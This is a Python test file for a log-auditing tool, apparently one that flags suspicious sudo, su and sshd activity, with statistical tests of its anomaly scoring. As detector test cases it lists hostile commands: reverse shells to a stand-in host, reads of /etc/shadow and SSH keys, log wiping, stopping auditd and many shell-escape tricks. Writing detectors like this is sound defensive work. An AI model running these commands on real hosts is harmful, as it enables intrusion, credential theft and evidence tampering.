"""Use of privilege: anomalies and what only looks so, sessions, provenance, refusals, and logs that come with the evidence."""

import gzip
import json
import math
import random
import struct
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from statistics import fmean
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scipy import special

from fidelitas.checks.usage.table import USE_CHECKS
from fidelitas.cli.times import time_of
from fidelitas.facts import Event, EventKind, Place
from fidelitas.findings import Finding
from fidelitas.languages.logs.entries import lines_that_matter
from fidelitas.logbook import EventFilter, HostLogs, Logbook, host_logs, read_logbook
from fidelitas.masking import masked
from fidelitas.recorded import OF_AUDIT
from fidelitas.sources.logs import logs_at
from fidelitas.usage import AttributedEvent, SensitiveTarget, sensitive_targets
from fidelitas.usage.command_families import family_of
from fidelitas.usage.habits import Habits
from fidelitas.usage.meanings import alike, meaning_of
from fidelitas.usage.sensitive_targets import edited_paths
from fidelitas.usage.shells import gives_shell
from fidelitas.usage.statistics import (
    BINS,
    burst_tail,
    concentration,
    discoveries,
    incomplete_beta,
    novelty_tail,
    silence_tail,
    smoothed,
)
from support import Ran, fidelitas
from test_cli import check_schema
from test_logs import DOCUMENTED
from test_probe import gaps, grow, probe, put

BEGIN = datetime(2026, 9, 7, tzinfo=UTC)  # a Monday
SAMPLES = Path(__file__).parent / "samples" / "logs"


def at(day: float, hour: float = 0.0) -> datetime:
    return BEGIN + timedelta(days=day, hours=hour)


def sudo(who: str, command: str, target: str = "root", why: str = "", folder: str = "/", terminal: str = "pts/0") -> str:
    return f"sudo: {who:>8} : {why}TTY={terminal} ; PWD={folder} ; USER={target} ; COMMAND={command}"


class Log:
    """A log under construction: everyday life of forty days, by an hourly job and three people, and lines beside it."""

    def __init__(self, *, everyday: bool = True) -> None:
        self.lines: list[tuple[datetime, str]] = []
        if everyday:
            for hour in range(40 * 24):
                self.put(at(0, hour + 0.3), "CRON[9]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            for day in (day for day in range(40) if day % 7 < 5):
                for number, who in enumerate(("ines", "rada", "tomas")):
                    self.put(at(day, 9 + number + day % 4 / 2), sudo(who, "/usr/bin/apt update"))

    def put(self, when: datetime, line: str) -> "Log":
        self.lines.append((when, line))
        return self

    def write(self, path: Path, *, sort: bool = True) -> Path:
        lines = sorted(self.lines, key=lambda line: line[0]) if sort else self.lines
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(f"{when.isoformat(timespec='microseconds')} knot {text}\n" for when, text in lines))
        return path


def book_of(
    *paths: Path, wanted: EventFilter | None = None, take: Callable[[AttributedEvent], None] | None = None, **known: Any
) -> Logbook:
    groups = logs_at(paths, "knot")
    return read_logbook([HostLogs(subject=logs[0].subject, logs=logs, **known) for logs in groups], wanted, take)


def findings(log: Log, folder: Path, **known: Any) -> list[Finding]:
    return book_of(log.write(folder / "auth.log"), **known).findings()


# -- what is out of order ------------------------------------------------------------------------------------------------------------

NIGHT, DAY = at(36, 2.5), at(36, 10)
FAILED = "sshd[7]: Failed password for {} from {} port 4000 ssh2"


def some(count: int, line: Callable[[int], str], when: datetime = DAY) -> list[tuple[datetime, str]]:
    return [(when + timedelta(seconds=5 * number), line(number)) for number in range(count)]


# Check, lines that have the fault, and lines that only look so.
CASES: list[tuple[str, list[tuple[datetime, str]], list[tuple[datetime, str]]]] = [
    ("use.failure-burst", some(25, lambda _: FAILED.format("ines", "192.0.2.9")), some(2, lambda _: FAILED.format("ines", "192.0.2.9"))),
    ("use.password-spraying", some(9, lambda n: FAILED.format(f"invalid user x{n}", "192.0.2.9")), some(3, lambda n: FAILED.format(f"invalid user x{n}", "192.0.2.9"))),
    ("use.refused-outsider", [(DAY, sudo("vesna", "/bin/ls", why="user NOT in sudoers ; "))], [(DAY, sudo("ines", "/bin/ls", why="command not allowed ; "))]),
    ("use.refused-probe", [(DAY, sudo("ines", "/bin/cat /etc/shadow", why="command not allowed ; "))], [(DAY, sudo("ines", "/bin/cat /etc/motd", why="command not allowed ; "))]),
    ("use.first-use-of-right", [(DAY, sudo("ines", "/usr/bin/apt update", "postgres"))], [(at(1, 10), sudo("ines", "/usr/bin/apt update", "postgres"))]),
    ("use.first-use-of-command", [(DAY, sudo("ines", "/usr/sbin/tcpdump"))], [(at(1, 10), sudo("ines", "/usr/sbin/tcpdump"))]),
    ("use.unusual-hour", [(NIGHT, sudo("ines", "/usr/bin/apt update"))], [(at(35, 12.1), sudo("ines", "/usr/bin/apt update"))]),
    ("use.root-shell", [(DAY, sudo("ines", "/usr/bin/env -i /bin/bash"))], [(DAY, sudo("ines", "/bin/bash -c true"))]),
    ("use.secret-read", [(DAY, sudo("ines", "/bin/sh -c 'cat /etc/shadow'"))], [(DAY, sudo("ines", "/usr/bin/stat /etc/shadow"))]),
    ("use.policy-edit", [(DAY, sudo("ines", "/usr/bin/tee -a /etc/sudoers.d/x"))], [(DAY, sudo("ines", "/usr/sbin/visudo -c"))]),
    ("use.log-edit", [(DAY, sudo("ines", "/usr/bin/dd if=/dev/null of=/var/log/wtmp"))], [(DAY, sudo("ines", "/usr/bin/tail -f /var/log/auth.log"))]),
    ("use.audit-edit", [(DAY, sudo("ines", "/usr/bin/systemctl stop auditd.service"))], [(DAY, sudo("ines", "/usr/bin/systemctl status auditd"))]),
    ("use.root-login", [(DAY, "sshd[7]: Accepted password for root from 192.0.2.9 port 4 ssh2")], [(DAY, "sshd[7]: Accepted password for rada from 192.0.2.9 port 4 ssh2")]),
    ("use.brief-membership",
     [(DAY, "usermod[5]: add 'vesna' to group 'sudo'"), (at(36, 16), "gpasswd[6]: user vesna removed by root from group sudo")],
     [(at(30), "usermod[5]: add 'vesna' to group 'sudo'"), (at(36, 16), "gpasswd[6]: user vesna removed by root from group sudo")]),
    ("use.suspected-forgery", [(DAY, sudo("ines", "/bin/id", folder="/tmp/x ; USER=rada ; COMMAND=/bin/ls"))], [(DAY, sudo("ines", "/bin/echo 'x ; USER=rada'"))]),
]  # fmt: skip


@pytest.mark.parametrize(("check", "fault", "innocent"), CASES, ids=[check for check, *_ in CASES])
def test_what_is_out_of_order_is_found_and_what_only_looks_so_is_not(
    check: str, fault: list[tuple[datetime, str]], innocent: list[tuple[datetime, str]], tmp_path: Path
) -> None:
    for name, lines, expected in (("fault", fault, True), ("innocent", innocent, False)):
        log = Log()
        log.lines += lines
        told = [finding for finding in findings(log, tmp_path / name) if finding.check == check]
        assert bool(told) is expected, told
        for finding in told:
            assert finding.places[0].line is not None
            assert finding.subject == "knot"


@pytest.mark.parametrize(
    ("command", "by_others", "found"),
    [("/usr/sbin/tcpreplay eth0", 0, True), ("/usr/sbin/tcpreplay eth0", 2, False), ("/usr/bin/apt-get update", 0, False)],
)
def test_a_first_use_is_one_of_a_kind_of_work_that_colleagues_do_not_do(
    command: str, by_others: int, *, found: bool, tmp_path: Path
) -> None:
    log = Log()  # in which ines uses apt
    for number in range(by_others):
        log.put(at(2), sudo(("rada", "kofi")[number], command))
    log.put(DAY, sudo("ines", command))
    messages = [
        one.message for one in findings(log, tmp_path) if one.check == "use.first-use-of-command" and one.message.startswith("ines ")
    ]
    assert bool(messages) is found, messages


@pytest.mark.parametrize(("scattered", "nights", "found"), [(0, 1, True), (0, 2, True), (25, 0, False), (25, 1, False)])
def test_who_works_at_any_hour_has_no_unusual_one(scattered: int, nights: int, *, found: bool, tmp_path: Path) -> None:
    """One person on a host: a few uses at hours that repeat themselves, or at ever other ones."""
    log, chance = Log(everyday=False), random.Random(7)
    for day in range(35):
        if not scattered and day % 7 < 5:
            log.put(at(day, 9 + day % 4), sudo("ines", "/usr/bin/apt update"))
    for _ in range(scattered):
        log.put(at(chance.randrange(35), chance.randrange(24)), sudo("ines", "/usr/bin/apt update"))
    for night in range(nights):
        log.put(at(36 + night, 2.5 + 4 * night), sudo("ines", "/usr/bin/apt update"))
    told = [one.message for one in findings(log, tmp_path) if one.check == "use.unusual-hour"]
    assert (len(told) == nights) if found else not told, told


@pytest.mark.parametrize("form", [[], ["--events"], ["--timeline"], ["--sessions"]])
def test_a_very_long_command_is_shown_cut_with_its_length(form: list[str], tmp_path: Path) -> None:
    Log(everyday=False).put(DAY, sudo("ines", "/bin/bash " + "-x " * 900_000)).write(tmp_path / "auth.log")
    ran = fidelitas("usage", "--log", tmp_path / "auth.log", *form, cwd=tmp_path)
    assert len(ran.out) < 10_000
    assert "characters)" in ran.out
    events = fidelitas("usage", "--log", tmp_path / "auth.log", "--events", "--format", "json", cwd=tmp_path).json["events"]
    assert len(events[0]["command"]) > 1_000_000


def test_nobody_hides_behind_the_many_events_of_another_and_all_are_counted(tmp_path: Path) -> None:
    log = Log(everyday=False)
    log.lines += some(700, lambda n: sudo("mallory", f"/bin/x{n}", why="user NOT in sudoers ; "))
    log.lines += some(4, lambda _: sudo("vesna", "/bin/ls", why="user NOT in sudoers ; "), DAY + timedelta(hours=3))
    messages = [one.message for one in findings(log, tmp_path) if one.check == "use.refused-outsider"]
    assert [message.partition(" since")[0] for message in messages] == [
        "mallory, who has no rights here, was refused 700 times",
        "vesna, who has no rights here, was refused 4 times",
    ]


def test_of_very_many_shells_and_anomalies_the_others_are_counted(tmp_path: Path) -> None:
    """A host with more shells than are kept: each person's first ones are there, the others are a number, and so are anomalies."""
    log = Log(everyday=False)
    for number in range(1500):
        who, at = ("mallory" if number < 1400 else f"p{number}"), DAY + timedelta(minutes=number)
        opened = f"pam_unix(su:session): session opened for user root(uid=0) by {who}(uid={number})"
        log.lines += [(at, f"su[{number + 10}]: {opened}"), (at, f"su[{number + 10}]: pam_unix(su:session): session closed for user root")]
    log.lines += some(60, lambda n: sudo(f"p{n}", f"/bin/x{n}", why="user NOT in sudoers ; "))
    path = log.write(tmp_path / "auth.log")
    told = fidelitas("usage", "--log", str(path), "--format", "json", cwd=tmp_path).json
    assert told["made"]["ledger"] is None  # nothing came from one
    assert (len(told["sessions"]), told["sessions_left_out"]) == (1000 + 5 + 100, 395)
    assert {one["person"] for one in told["sessions"]} == {"mallory", *(f"p{number}" for number in range(1400, 1500))}
    text = fidelitas("usage", "--log", str(path), cwd=tmp_path).out
    assert "of 395 more that were closed nothing but their number is kept" in text
    assert "the worst 40 of" in text
    assert "not shown: " in text


def test_everyday_life_raises_nothing_and_every_check_of_logs_has_a_case(tmp_path: Path) -> None:
    assert findings(Log(), tmp_path) == []
    others = {"logs.gap", "logs.silent", "logs.time-backwards", "logs.lines-removed"}
    assert {check.name for check in USE_CHECKS} == {check for check, *_ in CASES} | others


@pytest.mark.parametrize(("begin", "hours", "check"), [(36, 20, "logs.gap"), (36, 1, None), (38.5, 40, "logs.silent")])
def test_a_silence_is_told_where_the_log_itself_makes_it_improbable(begin: float, hours: float, check: str | None, tmp_path: Path) -> None:
    log = Log()
    log.lines = [line for line in log.lines if not at(begin) <= line[0] < at(begin, hours)]
    told = [finding for finding in findings(log, tmp_path, taken=at(40)) if finding.check.startswith("logs.")]
    assert [finding.check for finding in told] == ([check] if check else [])
    numbers = [finding.statistic for finding in told]
    assert all(one is not None and one.observed == 0 and one.expected > hours / 2 and one.chance < 1e-4 for one in numbers)


@pytest.mark.parametrize(("back", "found"), [(timedelta(hours=3), True), (timedelta(seconds=30), False)])
def test_time_that_runs_backwards(back: timedelta, found: bool, tmp_path: Path) -> None:
    log = Log(everyday=False).put(at(1), sudo("ines", "/bin/ls")).put(at(1) - back, sudo("ines", "/bin/ls"))
    told = book_of(log.write(tmp_path / "auth.log", sort=False)).findings()
    assert [(one.check, one.places[0].line) for one in told if one.check.startswith("logs")] == (
        [("logs.time-backwards", 2)] if found else []
    )


@pytest.mark.parametrize(
    ("command", "touched"),
    [
        ("/usr/bin/vim /etc/sudoers", SensitiveTarget.POLICY), ("/usr/sbin/visudo -f /etc/sudoers.d/x", SensitiveTarget.POLICY), ("sudoedit /etc/pam.d/su", SensitiveTarget.POLICY),
        ("/usr/bin/journalctl --vacuum-time=1s", SensitiveTarget.LOG), ("/usr/bin/journalctl -u tides", None), ("/usr/sbin/auditctl -D", SensitiveTarget.AUDIT),
        ("/usr/sbin/auditctl -l", None), ("/usr/bin/pkill -9 rsyslogd", SensitiveTarget.AUDIT), ("/usr/bin/systemctl restart rsyslog", None),
        ("/bin/cp /root/.ssh/id_rsa /tmp/k", SensitiveTarget.SECRET), ("/bin/cat /root/.ssh/id_rsa.pub", None), ("/bin/ls -l /etc/shadow", None),
        ("/usr/bin/env LC_ALL=C head /etc/shadow", SensitiveTarget.SECRET), ("", None), ("'", None),
        # words behind -c, and what is sent to files
        ("/bin/sh -c 'echo x >> /etc/sudoers'", SensitiveTarget.POLICY), ("/bin/bash -c echo x > /etc/sudoers.d/x", SensitiveTarget.POLICY),
        ("/bin/sh -c 'cd /etc; cat < shadow'", SensitiveTarget.SECRET), ("/bin/sh -c ':>/var/log/auth.log'", SensitiveTarget.LOG),
        ("/bin/bash -lc 'true && cat /etc/shadow | head'", SensitiveTarget.SECRET), ("/bin/sh -c 'echo /etc/shadow'", None),
        ("/usr/bin/env sh -c 'sudo tee /etc/sudoers.d/x'", SensitiveTarget.POLICY), ("/usr/bin/su - -c 'cat /etc/shadow'", SensitiveTarget.SECRET),
        ("/bin/sh -c 'echo $(cat /etc/shadow)'", SensitiveTarget.SECRET), ("/bin/sh -c 'cat /etc/motd 2>/dev/null'", None),
        # other ways to write a path
        ("/bin/cat //etc//shadow", SensitiveTarget.SECRET), ("/bin/cat /usr/../etc/./shadow", SensitiveTarget.SECRET),
        ("/bin/cat /etc/shad*", SensitiveTarget.SECRET), ("/bin/cat /etc/{hosts,shadow}", SensitiveTarget.SECRET), ("/bin/cat /etc/ho*", None),
        ("/bin/cat /etc/shadow.bak", SensitiveTarget.SECRET), ("/bin/cat /var/backups/shadow.bak", SensitiveTarget.SECRET),
        ("/usr/bin/rm /var/log/*.log", SensitiveTarget.LOG), ("/usr/bin/curl -T file=/etc/shadow x", SensitiveTarget.SECRET),
        # programs that run another, take whole folders, or change files by a script
        ("/usr/bin/find /var/log -name '*.gz' -delete", SensitiveTarget.LOG), ("/usr/bin/find /etc -name shadow -exec cat {} ;", None),
        ("/usr/bin/find /etc/shadow -exec cat {} ;", SensitiveTarget.SECRET), ("/usr/bin/find /etc/sudoers.d -exec chmod 666 {} +", SensitiveTarget.POLICY),
        ("/usr/bin/find /etc -name x", None), ("/usr/bin/tar czf /tmp/x.tgz /etc", SensitiveTarget.SECRET), ("/usr/bin/tar czf /tmp/x.tgz /srv", None),
        ("/bin/cp -a /etc /mnt", SensitiveTarget.SECRET), ("/bin/cp /etc/sudoers /tmp/x", None), ("/bin/cp /tmp/x /etc/sudoers", SensitiveTarget.POLICY),
        ("/bin/rm -rf /var/log", SensitiveTarget.LOG), ("/usr/bin/truncate -s 0 /var/log/wtmp", SensitiveTarget.LOG), ("/bin/dd if=/etc/shadow of=/tmp/x", SensitiveTarget.SECRET),
        ("/usr/bin/python3 -c \"print(open('/etc/shadow').read())\"", SensitiveTarget.SECRET), ("/usr/bin/python3 -c \"open('/etc/sudoers.d/x','w')\"", SensitiveTarget.POLICY),
        ("/usr/bin/perl -pi -e 's/x/y/' /etc/sudoers.d/x", SensitiveTarget.POLICY), ("/usr/bin/sed -i s/x/y/ /etc/pam.d/su", SensitiveTarget.POLICY),
        ("/usr/bin/sed -n 1p /etc/pam.d/su", None), ("/usr/sbin/chroot /mnt cat /etc/shadow", SensitiveTarget.SECRET), ("/usr/bin/xargs cat /etc/shadow", SensitiveTarget.SECRET),
        # what options write to, and what is read by other roads
        ("/usr/bin/curl -o /etc/sudoers.d/x http://h/x", SensitiveTarget.POLICY), ("/usr/bin/wget -O/etc/sudoers.d/x http://h/x", SensitiveTarget.POLICY),
        ("/usr/bin/wget --output-document=/etc/pam.d/su h", SensitiveTarget.POLICY), ("/usr/bin/cp -t /etc/sudoers.d x", SensitiveTarget.POLICY), ("/usr/bin/cp -t /tmp /etc/shadow", SensitiveTarget.SECRET),
        ("/usr/bin/tar xf x.tar -C /etc/sudoers.d", SensitiveTarget.POLICY), ("/usr/bin/tar cf /tmp/x -C /etc shadow", SensitiveTarget.SECRET), ("/usr/bin/tar -C /srv -xf x", None),
        ("/bin/cat /proc/1/root/etc/shadow", SensitiveTarget.SECRET), ("/usr/bin/getent shadow root", SensitiveTarget.SECRET), ("/usr/bin/getent passwd", None),
        ("/usr/bin/dd if=/dev/sda of=/srv/image", SensitiveTarget.SECRET), ("/usr/bin/dd if=/dev/zero of=/srv/x", None), ("/usr/sbin/fdisk -l /dev/sda", None),
        ("/usr/sbin/debugfs -R 'cat /etc/shadow' /dev/vda1", SensitiveTarget.SECRET), ("/usr/sbin/vipw -s", SensitiveTarget.POLICY),
        # what makes a program run as its owner, or with capabilities
        ("/bin/chmod u+s /tmp/x", SensitiveTarget.POLICY), ("/bin/chmod -v 4755 /tmp/x", SensitiveTarget.POLICY), ("/bin/chmod g+s /srv", None), ("/bin/chmod 2775 /srv", None),
        ("/bin/chmod 0755 /tmp/x", None), ("/usr/bin/install -m 4755 x /usr/bin/x", SensitiveTarget.POLICY), ("/usr/bin/install -m 755 x /usr/bin/x", None),
        ("/usr/sbin/setcap cap_setuid+ep /tmp/x", SensitiveTarget.POLICY), ("/usr/sbin/setcap -r /tmp/x", None),
        # what is to hide a word behind others
        (f"/bin/sh -c ': {'x ' * 9000}; cat /etc/shadow'", SensitiveTarget.SECRET), (f"/bin/cat {'x ' * 9000} /etc/shadow", SensitiveTarget.SECRET),
        (f"{'/bin/sh -c ' * 20} cat /etc/shadow", SensitiveTarget.SECRET),
        ("/usr/bin/find /tmp -exec true {} ; -exec cat /etc/shadow ;", SensitiveTarget.SECRET), ("/usr/bin/find /var/log -exec true {} ; -delete", SensitiveTarget.LOG),
        ("/usr/bin/busybox cat /etc/shadow", SensitiveTarget.SECRET), ("/bin/sh -c sh -c 'cat /etc/shadow'", SensitiveTarget.SECRET),
    ],
)  # fmt: skip
def test_what_a_command_touches(command: str, touched: SensitiveTarget | None) -> None:
    assert sensitive_targets(command) == (frozenset({touched}) if touched else frozenset())


def test_a_relative_path_is_of_the_folder_that_the_line_names() -> None:
    assert sensitive_targets("/bin/cat shadow", "/etc") == {SensitiveTarget.SECRET}
    assert not sensitive_targets("/bin/cat shadow", "/home/ines")
    assert edited_paths("/usr/bin/vim ../sudoers.d/x", "/etc/ssh") == ["/etc/sudoers.d/x"]


SHELLS = r"""/bin/bash | /usr/bin/zsh -l | /usr/bin/su - | /usr/bin/env -i /bin/bash | /usr/sbin/chroot /mnt | /usr/sbin/chroot /mnt bash -l |
/usr/bin/nsenter -t 1 -m -u | /usr/bin/nsenter -t 1 -m /bin/sh | /usr/bin/unshare -m | /usr/bin/systemd-run --shell |
/usr/bin/systemd-run -t /bin/bash | /bin/busybox sh | /usr/bin/script | /usr/sbin/runuser -l rada | /usr/sbin/runuser -u rada bash |
/usr/bin/sudo -i | /usr/bin/sudo -u rada -s | /usr/bin/docker exec -it app bash | /usr/bin/tmux new | /usr/bin/machinectl shell |
/usr/bin/timeout 5 bash | /sbin/ip netns exec blue bash | /usr/bin/strace -f bash | kubectl exec -it pod -- bash |
kubectl -n x exec -it pod -c y -- sh | docker run -it debian | docker exec -it -u 0 --workdir /x web bash |
podman run --rm -it --name z --network host img sh | docker compose exec web bash | lxc exec c -- su - | lxc-attach -n c |
systemd-nspawn -D /x | env -S 'bash -i' | env -i bash | env -u A bash | sh -c 'cd /x && exec bash' |
bash -c 'bash -i >& /dev/tcp/h/9 0>&1' | nohup bash -i | setpriv --reuid 0 --clear-groups sh | capsh --  |
ld-linux-x86-64.so.2 --library-path /x /bin/sh | python3.11 | perl | node | irb | php -a | ipython3 | find / -exec /bin/bash ; |
find . -name x -exec bash -p ; | vim -c ':!bash' x | vim --cmd :shell | vi +:sh x | less +!bash x | gdb -nx -ex '!sh' -ex quit |
tar cf x y --checkpoint=1 --checkpoint-action=exec=/bin/sh | socat TCP:h:9 EXEC:/bin/bash | nc h 9 -e /bin/bash | rsync -e sh x y |
python -c 'import os;os.execl("/bin/sh","sh")' | perl -e 'exec "/bin/bash";' | awk 'BEGIN {system("/bin/sh")}' |
ruby -e 'exec "/bin/sh"' | lua -e 'os.execute("/bin/sh")' | expect -c 'spawn bash;interact' | emacs -Q -nw --eval '(term "/bin/sh")' |
ssh -o ProxyCommand=sh x | man -P '!sh' x | timeout --signal KILL 5 bash | su -c bash | su rada -c 'bash -l' |
runuser -u rada -- bash | script -qc bash /dev/null | xargs bash | dbus-run-session -- bash | tmux new -s x | screen | screen -S x |
unshare --map-root-user --mount | nsenter --target 1 --mount --pid | chroot /x | pkexec | ip netns exec b bash | busybox sh |
stdbuf -oL bash | exec bash | time bash | git -c core.pager='sh' log | ed !sh | strace -o /dev/null /bin/sh | numactl -N 0 bash |
setarch x86_64 bash"""
NONE = r"""/bin/bash -c true | /bin/bash /root/x.sh | /usr/bin/su - -c id | /bin/su -c id rada | /usr/sbin/chroot /mnt /bin/ls |
/usr/bin/nsenter -t 1 -m ls | /usr/bin/unshare -m id | /usr/bin/systemd-run -p X=y /bin/true | /bin/busybox ls |
/usr/bin/script -c id /tmp/x | /usr/sbin/runuser -u rada id | /usr/bin/sudo id | /usr/bin/docker exec -it app sh -c echo |
/usr/bin/docker ps | /sbin/ip a | /usr/bin/less /etc/shadow | /usr/bin/python3 -c x | ' | apt install bash | chsh -s /bin/bash tomas |
useradd -m -s /bin/bash x | usermod --shell /bin/zsh x | usermod --shell=/bin/zsh x | python3 /opt/x.py | python3 -m http.server |
python3 -V | perl -v | perl /x.pl | node app.js | php artisan migrate | docker ps | docker run -d nginx | docker run --rm alpine ls |
docker run -it --name x alpine ls | docker exec web ls | docker exec -u 5 web ls | docker logs x | kubectl get pods |
kubectl exec pod -- ls | kubectl -n x exec -it pod -c y -- ls -l | lxc list | lxc exec c -- ls | rsync -e ssh a b |
rsync -e 'ssh -p 22' a b | tar czf x y | tar -I zstd -cf x y | find . -exec ls {} ; | find / -name sh | find . ! -name sh |
which bash | dpkg -S /bin/bash | ls -l /bin/sh | cat /etc/shells | grep -r 'bash' /etc | sed -i s/sh/bash/ x | vim /etc/x |
vim -c 'set nu' x | vim +10 x | vim /opt/x.sh | less x | crontab -l | make install | make sh | git -C /x pull | gdb -p 12 | nc -l 99 |
systemctl restart x | awk '{print $1}' x | awk -F: '$7=="/bin/bash"' /etc/passwd | awk '/bash/' f | awk 'BEGIN{system("sh /x.sh")}' |
getent passwd | timeout 5 ls | nice ls | env A=b ls | env | nsenter -t 1 -m ls | nsenter --target 1 --mount ls | unshare -r ls |
chroot /mnt ls | setpriv --reuid 5 ls | strace -p 12 | watch ls | xargs rm | tmux ls | screen -ls | screen -S x -X quit |
python3 -c 'print(1)' | python3 -c 'import subprocess; subprocess.run(["bash","-c","ls"])' |
python3 -c "subprocess.run(['bash','/x.sh'])" | perl -e 'print 1' | perl -pi -e s/a/b/ f | perl -e 'system("bash -c ls")' | ruby -v |
sh -c 'ls' | bash -lc 'make' | bash -x script | sh /opt/x.sh | su -c id | sudo -l | sudo -v | sudo -K | ip a | ip netns exec b ip a |
ip netns list | machinectl list | script -c id | pkexec /usr/bin/x | git -c core.editor=vim commit | busybox ls |
ansible -m shell -a ls | mysql -e 'show' | nmap -sS h | passwd | tar --to-command=cat xf y | split --filter='gzip > $FILE.gz' x |
nohup x.sh | flock /l x.sh | systemd-run --unit x y | start-stop-daemon -S -x /usr/sbin/x | php -r 'echo 1;' | lua x.lua |
julia x.jl | sh -c 'cat /etc/shells' | bash -c 'for i in 1 2; do echo $i; done' | bash -c 'exec /usr/sbin/nginx' |
sh -c '. /etc/profile; exec "$@"' | /usr/bin/install -m 755 x.sh /usr/local/bin | run-parts /etc/cron.daily |
update-alternatives --set sh /bin/dash | ln -sf dash /bin/sh | dash /x | visudo | debugfs /dev/sda | service ssh restart |
useradd -s /usr/sbin/nologin x | find /x -name '*.sh' -exec chmod +x {} + | find . -exec sh -c 'ls {}' ; | xargs -I{} sh -c 'ls {}' |
env FOO=bash ls | sudo -u postgres psql | psql -c 'select 1' | echo ! sh | rpm -q --scripts bash | expect /x.exp | tclsh x.tcl |
node --version | python3 -m pip install ipython | apt-get install -y python3 perl ruby | update-rc.d x defaults | chmod +x sh |
strings /bin/sh | eval-x | time ls | command -v bash | exec ls | docker compose run web ls | docker compose exec web ls |
docker build -t x . | podman run --rm -v /a:/b img make | lxc-attach -n c -- ls | systemd-nspawn -D /x ls |
systemd-nspawn -D /x --bind /a ls | fakeroot make | firejail ls"""


@pytest.mark.parametrize(("commands", "expected"), [(SHELLS, True), (NONE, False)])
def test_which_commands_give_a_shell(commands: str, *, expected: bool) -> None:
    assert [one for one in (part.strip() for part in commands.split("|")) if gives_shell(one) is not expected] == []


@given(st.text(max_size=200))
def test_any_command_line_is_survived(command: str) -> None:
    gives_shell(command)
    sensitive_targets(command, command)
    edited_paths(command)


arguments = st.sampled_from(
    (
        "1234", "20261101", "/proc/4242/mem", "/srv/2026/x", "/var/log/20261101", "2026/../../etc/shadow", "-c", "sh", "'cat", "/etc/shadow'", ">", ">/etc/sudoers",
        "id_ed25519", "/root/.ssh/id_ed25519", "timeout", "3600", "nsenter", "-t", "4755", "chmod", "-R", "22", "/proc/12/root/etc/shadow", ".ssh/authorized_keys", "../rada/.ssh/id_rsa", "../../etc/shadow", "../etc/sudoers", "--", "/etc/sudoers.d/12345", "*", "/[0-9]/1234", "1234;",
    )
)  # fmt: skip
programs = st.sampled_from(
    ("/bin/cat", "chmod", "install", "cp", "/opt/2026/tool", "timeout", "sudo", "find", "bash", "tar", "9999", "visudo", '"a', "kill")
)


numbers = st.one_of(st.integers(8000, 10**9), st.integers(10, 999))
folders = st.sampled_from(
    (
        "/",
        "/var/log",
        "/proc/1000",
        "/home/ines",
        "/home/ines/My Projects",
        "/home/ines/.ssh",
        "/home/2026",
        "/home/..",
        "/home",
        "/home/*",
        "/home/a/../../etc",
    )
)


@given(programs, st.lists(arguments, max_size=6), numbers, folders)
def test_what_a_command_amounts_to_does_not_hang_on_numbers_in_it(program: str, words: list[str], number: int, folder: str) -> None:
    """Other numbers in a command: the same shell, targets, work and program, worked out for each by itself."""
    command = " ".join([program, *words])
    other = alike(command).replace("0000", str(number)) if "0000" not in command else command
    one, two = (
        (gives_shell(text), sensitive_targets(text, folder), family_of(text), meaning_of(used(text, folder)).program)
        for text in (command, other)
    )
    assert one == two
    meaning = meaning_of(used(command, folder))
    assert (meaning.shell, meaning.targets, meaning.work, meaning.program) == (one[0], one[1], one[2], one[3])


def used(command: str, folder: str) -> Event:
    return Event(None, Place("knot", "auth.log"), None, EventKind.USED, "sudo", account="ines", folder=folder, command=command)


# -- statistics ------------------------------------------------------------------------------------------------------------------------

counts = st.lists(st.integers(0, 50), min_size=BINS, max_size=BINS)


@given(st.lists(counts, min_size=1, max_size=5), st.integers(0, BINS - 1))
def test_an_hour_is_judged_by_all_others_of_the_account_and_the_group(table: list[list[int]], hour: int) -> None:
    """By the definition, number by number."""
    near = tuple(sorted({hour, (hour + 1) % BINS}))
    strength = concentration(table)
    left_out = smoothed([near.count(at) for at in range(BINS)])
    group = [max(one - other, 0) for one, other in zip(smoothed([sum(column) + 1e-9 for column in zip(*table)]), left_out)]  # noqa: B905
    own = [max(one - other, 0) for one, other in zip(smoothed(table[0]), left_out, strict=True)]
    shares = [(one + strength * other / sum(group)) / (sum(own) + strength) for one, other in zip(own, group, strict=True)]
    rarity = sum(share for share in shares if share <= shares[hour] * (1 + 1e-9))
    usual = sum(row[hour] for row in table) + table[0][hour] > 20 and table[0][hour] > 2
    assert Habits(table).chance(0, hour, near) == pytest.approx(1.0 if usual else rarity)
    # In columns, added in the same order; later versions of Python add single numbers more exactly.
    assert Habits(table).chances([(0, hour, near)] * 300) == pytest.approx([Habits(table).chance(0, hour, near)] * 300, rel=1e-12)
    assert sum(smoothed(table[0])) == pytest.approx(sum(table[0]))


@given(st.integers(1, 60), st.floats(0.001, 20), st.floats(0.01, 50))
def test_tails_are_those_of_the_negative_binomial(observed: int, expected: float, shape: float) -> None:
    """As the sum of its probabilities."""
    p = shape / (shape + expected)
    terms = [shape * math.log(p)]
    for number in range(1, observed):
        terms.append(terms[-1] + math.log((number - 1 + shape) / number) + math.log(1 - p))
    assert burst_tail(observed, expected, shape) == pytest.approx(1 - sum(map(math.exp, terms)), abs=1e-9)
    assert silence_tail([expected], shape) == pytest.approx(math.exp(terms[0]), rel=1e-9)


@given(st.floats(1, 5000), st.floats(0.001, 1000), st.floats(1e-6, 1 - 1e-6))
def test_the_incomplete_beta_function_is_that_of_scipy(a: float, b: float, x: float) -> None:
    assert incomplete_beta(a, b, x) == pytest.approx(float(special.betainc(a, b, x)), rel=1e-8, abs=1e-280)


def test_false_discoveries_stay_below_their_share() -> None:
    """Of a hundred true effects among a thousand tests of chance; the share of false ones is held on average."""
    chance = random.Random(1)
    shares = []
    for _ in range(200):
        values = [chance.random() for _ in range(1000)] + [chance.random() * 1e-5 for _ in range(100)]
        kept = discoveries(values, len(values), 0.1)
        assert sum(kept[1000:]) > 95
        shares.append(sum(kept[:1000]) / max(sum(kept), 1))
    assert fmean(shares) <= 0.1
    assert not any(discoveries([0.5, 0.2], 1000, 0.1))
    assert discoveries([], 10, 0.1) == []


def test_accounts_that_are_alike_lend_one_another_more() -> None:
    alike = [[10 if 9 <= hour < 12 else 0 for hour in range(BINS)] for _ in range(8)]
    apart = [[30 if hour == 3 * row else 0 for hour in range(BINS)] for row in range(8)]
    assert concentration(alike) > concentration(apart)
    assert novelty_tail(100, 0, 3) < novelty_tail(20, 0, 3) < novelty_tail(20, 5, 8)


# -- logs with the evidence ----------------------------------------------------------------------------------------------------------


